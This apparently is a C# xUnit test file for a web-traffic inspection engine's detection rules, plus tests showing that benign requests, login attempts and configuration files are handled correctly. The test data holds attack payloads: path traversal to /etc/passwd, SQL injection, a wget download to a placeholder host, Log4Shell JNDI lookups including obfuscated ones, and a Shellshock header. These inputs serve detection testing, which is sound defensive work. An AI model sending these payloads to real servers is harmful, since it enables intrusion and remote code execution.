using Blackwall.Config;
using Blackwall.Inspection;
using Blackwall.Kernel.Abi;
using Blackwall.Pipeline.Model;
using Xunit;

namespace Blackwall.Tests.Inspection;

public sealed class InspectionStageTests
{
    private readonly Requests _requests = new();

    [Theory]
    [InlineData("/.env", "probe.env")]
    [InlineData("/a/../../../etc/passwd", "traversal.dots")]
    [InlineData("/..%2f..%2f..%2fetc%2fpasswd", "traversal.passwd")]
    [InlineData("/%2e%2e/%2e%2e/x", "traversal.escaped")]
    [InlineData("/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "traversal.passwd")]
    [InlineData("/%c0%ae%c0%ae/%c0%ae%c0%ae/ETC/PASSWD", "traversal.dots")]
    [InlineData("/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd", "traversal.dots")]
    [InlineData("/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/x", "traversal.dots")]
    [InlineData("/%u002e%u002e/%u002e%u002e/x", "traversal.dots")]
    [InlineData("/..\\..\\windows\\win.ini", "traversal.windows")]
    [InlineData("/x?file=a.php%00.jpg", "traversal.null-byte")]
    [InlineData("/?id=1%27%20UNION%20SELECT%201,2,3--", "sqli.union")]
    [InlineData("/?id=1/**/UnIoN/**/all/**/SeLeCt/**/1", "sqli.union")]
    [InlineData("/?id=1'+or+'1'='1", "sqli.tautology")]
    [InlineData("/?id=1)+AND+SLEEP(5)", "sqli.sleep")]
    [InlineData("/ping?host=127.0.0.1;cat%20/x", "command.chain")]
    [InlineData("/shell?cd+/tmp;wget+http://x/y", "command.chain")]
    [InlineData("/?q=${jndi:ldap://x/a}", "template.jndi")]
    [InlineData("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "template.jndi")]
    [InlineData("/?q=${${lower:j}ndi:ldap://x}", "template.jndi-hidden")]
    [InlineData("/?name={{7*7}}", "template.arithmetic")]
    [InlineData("/nice%20ports%2C/Tri%6Eity.txt%2ebak", "probe.nmap")]
    [InlineData("/index.php?page=php://filter/convert.base64-encode/resource=index", "command.php-wrapper")]
    [InlineData("/vendor//phpunit/./phpunit/src/Util/PHP/eval-stdin.php", "probe.phpunit")]
    [InlineData("/login.action?x=%{(#a='b')}", "template.ognl")]
    public void An_attack_in_the_target_meets_its_rule(string target, string rule)
    {
        _requests.Get(target);
        Assert.Contains(rule, _requests.Met);
        Evidence evidence = Assert.Single(_requests.Evidence);
        Assert.Equal(("dpi-rule", EvidenceClass.Application), (evidence.Kind, evidence.Class));
        Assert.Contains(rule, evidence.Detail, StringComparison.Ordinal);
        Assert.InRange(evidence.Weight, 0.3, 1);
    }

    [Theory]
    [InlineData("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n", "agent.nmap")]
    [InlineData("User-AGENT:sqlmap/1.7\r\n", "agent.sqlmap")]
    [InlineData("User-Agent: () { :;}; /bin/bash -c id\r\n", "command.shellshock")]
    [InlineData("X-Api-Version: ${jndi:ldap://x/a}\r\n", "template.jndi-header")]
    [InlineData("Referer: ${${::-j}${::-n}di:ldap://x}\r\n", "template.jndi-hidden-h")]
    public void An_attack_in_a_header_meets_its_rule(string header, string rule)
    {
        _requests.Get("/", header);
        Assert.Contains(rule, _requests.Met);
    }

    [Fact]
    public void An_attack_in_the_body_meets_its_rule()
    {
        _requests.Send("POST /enter HTTP/1.1\r\nHost: x\r\n\r\nuser=%27%20or%20%271%27%3D%271&password=");
        Assert.Equal(["sqli.body"], _requests.Met);
        _requests.Send("POST /x HTTP/1.1\nHost: x\n\na=${jndi:rmi://x}");
        Assert.Contains("template.jndi-body", _requests.Met);
    }

    [Fact]
    public void The_preface_of_h2c_is_seen()
    {
        _requests.Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        Assert.Equal(["h2c.prior-knowledge"], _requests.Met);
    }

    [Theory]
    [InlineData("/")]
    [InlineData("/index.html?utm_source=news&utm_medium=email&id=4711")]
    [InlineData("/search?q=select+a+union+rep+or+a+plumber&lang=en")]
    [InlineData("/search?q=how+to+cook+rice+and+beans")]
    [InlineData("/search?q=O%27Brien+and+sons")]
    [InlineData("/search?q=c%2B%2B+vs+c%23")]
    [InlineData("/articles/2024/05/the-id-of-things;v=2")]
    [InlineData("/api/v1/users/12/orders?sort=-created&filter[state]=open")]
    [InlineData("/static/js/main.8f7a1c.js?v=1.2.3")]
    [InlineData("/wp-content/uploads/2024/01/photo-1024x768.jpg")]
    [InlineData("/wiki/Union_(set_theory)#Definition")]
    [InlineData("/oauth/callback?code=4%2F0AX4XfWh&scope=openid%20email&redirect=https%3A%2F%2Fexample.org%2Fa")]
    [InlineData("/download/backup-guide.pdf")]
    [InlineData("/a/../b/style.css")]
    [InlineData("/environment/.well-known/acme-challenge/abc")]
    [InlineData("/shop?price=10..20&sort=price&id")]
    [InlineData("/search?q=salt+%26+python+tips+%7C+food")]
    [InlineData("/share?url=https%3A%2F%2Fexample.org%2F")]
    [InlineData("/scripts/app.js")]
    [InlineData("/sdk/docs")]
    [InlineData("/price?from=%E2%82%AC10&to=%E2%82%AC20")]
    public void Ordinary_requests_meet_nothing(string target)
    {
        _requests.Get(target, "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nCookie: id=1; name=a b; token='x'\r\n");
        _requests.Get(target, "User-Agent: curl/7.88.1\r\nAccept: */*\r\n");
        Assert.Empty(_requests.Met);
    }

    [Fact]
    public void A_rule_that_is_met_again_is_counted_and_not_told_until_a_while_has_passed()
    {
        _requests.Get("/.env");
        _requests.Get("/.env");
        _requests.Send("GET /.env HTTP/1.1\r\n\r\n", "203.0.113.10");
        Assert.Equal((2, 3), (_requests.Evidence.Count, _requests.Stage.Rules.Single(p => p.Rule.Id is "probe.env").Hits));
        _requests.Now += 61_000_000_000;
        _requests.Get("/.env");
        Assert.Equal(3, _requests.Evidence.Count);
        Assert.Equal(1, _requests.Stage.Counters["repeated"]);
    }

    [Fact]
    public void Weights_add_up_as_chances_do_and_follow_the_configuration()
    {
        Requests two = Requests.With("a target contains 0.5 aa\nb target contains 0.5 bb\nc target contains 0 cc");
        two.Get("/aabbcc");
        Assert.Equal((0.75, "its request meets rules a, b"), (two.Evidence[0].Weight, two.Evidence[0].Detail));
        Assert.Contains("c", two.Met);
        Requests half = new(new InspectionOptions { Weight = 0.5 });
        half.Get("/.env");
        Assert.Equal(0.3, half.Evidence[0].Weight);
        Requests silent = new(new InspectionOptions { Weight = 0 });
        silent.Get("/.env");
        Assert.Equal(["probe.env"], silent.Met);
        Assert.Empty(silent.Evidence);
    }

    [Fact]
    public void Each_request_is_a_sign_of_what_it_weighs_told_before_or_not()
    {
        _requests.Get("/.env");
        _requests.Get("/.env");
        _requests.Get("/.git/config");
        _requests.Get("/");
        Assert.Equal([0.6, 0.6, 0.6, 0], _requests.Signs.Where(sign => sign.Kind == SignKind.Request).Select(sign => Math.Round(sign.Weight, 3)));
        Assert.All(_requests.Signs, sign => Assert.Equal((SignKind.Request, EvidenceClass.Application), (sign.Kind, sign.Class)));
        Assert.Equal(3, _requests.Signs.Select(sign => sign.Thing).Distinct().Count());
    }

    [Theory]
    [InlineData("POST /wp-login.php HTTP/1.1\r\n\r\n", SignKind.LoginForm)]
    [InlineData("POST /shop/en/LOGIN?next=%2F HTTP/1.1\r\n\r\n", SignKind.LoginForm)]
    [InlineData("POST /users/sign_in HTTP/1.1\r\n\r\n", SignKind.LoginForm)]
    [InlineData("POST /phpmyadmin/index.php HTTP/1.1\r\n\r\n", SignKind.LoginForm)]
    [InlineData("GET / HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n", SignKind.Credentials)]
    [InlineData("GET / HTTP/1.1\nHost: a\nAUTHORIZATION:   digest username=\"a\"\n\n", SignKind.Credentials)]
    public void A_try_to_log_in_is_a_sign(string request, SignKind kind)
    {
        _requests.Send(request);
        Assert.Equal([SignKind.Request, kind], _requests.Signs.Select(sign => sign.Kind));
    }

    [Theory]
    [InlineData("GET /wp-login.php HTTP/1.1\r\n\r\n")]
    [InlineData("POST /blog/how-to-login-safely HTTP/1.1\r\n\r\n")]
    [InlineData("GET / HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n")]
    [InlineData("GET / HTTP/1.1\r\nAuthorization: Basic \r\n\r\n")]
    [InlineData("GET / HTTP/1.1\r\nX-Authorization: Basic YTpi\r\n\r\n")]
    [InlineData("POST / HTTP/1.1\r\nHost: a\r\n\r\nAuthorization: Basic YTpi")]
    public void Other_requests_are_no_try(string request)
    {
        _requests.Send(request);
        Assert.Equal([SignKind.Request], _requests.Signs.Select(sign => sign.Kind));
    }

    [Fact]
    public void What_leaves_and_what_is_no_request_is_left_alone()
    {
        _requests.Send("GET /.env HTTP/1.1\r\n\r\n", direction: FlowDirection.Outbound);
        _requests.Send("\u0016\u0003\u0001 /.env");
        _requests.Send("GET");
        Assert.Empty(_requests.Met);
        Assert.Equal(0, _requests.Stage.Counters["requests"]);
        Requests off = new(new InspectionOptions { Enabled = false });
        off.Get("/.env");
        Assert.Empty(off.Met);
    }

    [Fact]
    public void A_request_that_meets_nothing_costs_no_allocation()
    {
        byte[] data = "GET /index.html?a=b%20c HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"u8.ToArray();
        SampleHeader header = new() { TimeNanoseconds = 1, Protocol = 6, Kind = SampleKind.Http };
        _requests.Signs.EnsureCapacity(10_000);
        for (int i = 0; i < 2000; i++)
        {
            header.Sequence += (uint)data.Length;
            _requests.Stage.Observe(in header, data, _requests);
        }

        long allocated = 1;
        for (int round = 0; round < 20 && allocated > 0; round++)
        {
            // Code that is not optimised yet may allocate, and on a busy machine it stays so for a while.
            _requests.Signs.Clear();
            long before = GC.GetAllocatedBytesForCurrentThread();
            for (int i = 0; i < 2000; i++)
            {
                header.Sequence += (uint)data.Length;
                _requests.Stage.Observe(in header, data, _requests);
            }

            allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        }

        Assert.Equal(0, allocated);
        Assert.Equal(0, _requests.Stage.Counters["requests"] % 2000);
    }

    [Fact]
    public void A_file_of_the_operator_takes_the_place_of_the_shipped_rules()
    {
        string file = Path.GetTempFileName();
        try
        {
            File.WriteAllText(file, "mine target prefix 0.9 /mine\n");
            ConfigSection<InspectionOptions> section = (ConfigSection<InspectionOptions>)InspectionOptions.Declare()[0];
            Assert.Null(section.Apply("rules_file", new ConfigValue(file, null, ConfigValueKind.Text, "blackwall.toml:3")));
            Assert.Equal(["mine"], section.Options.Rules.Select(r => r.Id));
            Assert.Equal(file, section.Read("rules_file"));
            File.WriteAllText(file, "mine target prefix 9 /mine\n");
            Assert.Contains($"{file}:1: the weight", section.Apply("rules_file", new ConfigValue(file, null, ConfigValueKind.Text, "blackwall.toml:3")), StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(file);
        }

        Assert.Contains("cannot be read", InspectionOptions.Declare()[0].Apply("rules_file", new ConfigValue(file, null, ConfigValueKind.Text, "x:1")), StringComparison.Ordinal);
    }
}
